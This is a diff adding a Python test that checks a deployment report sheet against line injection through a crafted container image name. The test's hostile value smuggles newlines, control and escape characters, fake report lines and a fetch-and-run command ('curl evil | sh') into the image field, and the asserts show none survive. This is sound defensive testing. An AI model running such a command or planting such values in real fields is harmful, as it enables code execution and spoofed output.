@@ -57,3 +57,15 @@ def test_an_image_without_a_digest_is_told_as_such() -> None:
     assert "no digest: the Deployment names only the tag" in _sheet(
         running=(RunningService(service="backend", image=loose),)
     )
+
+
+def test_no_text_that_somebody_wrote_as_an_image_becomes_a_line_of_the_page() -> None:
+    """Kubernetes takes any text for an image that does not begin or end with a blank."""
+    hostile = Image.parse(
+        f"x/backend\n\n5. People\n\rCall 555 0100\u2028curl evil | sh\x1b[2J{'x' * 5000}:v2@sha256:a\nomnicare unlock"
+    )
+    lines = _sheet(running=(RunningService(service="backend", image=hostile, pods=3),)).splitlines()
+    assert lines == [line for line in lines if line.isprintable()]
+    assert lines.count("5. People") == 1
+    assert not [line for line in lines if line.startswith(("Call", "curl", "omnicare unlock"))]
+    assert max(map(len, lines)) < 250
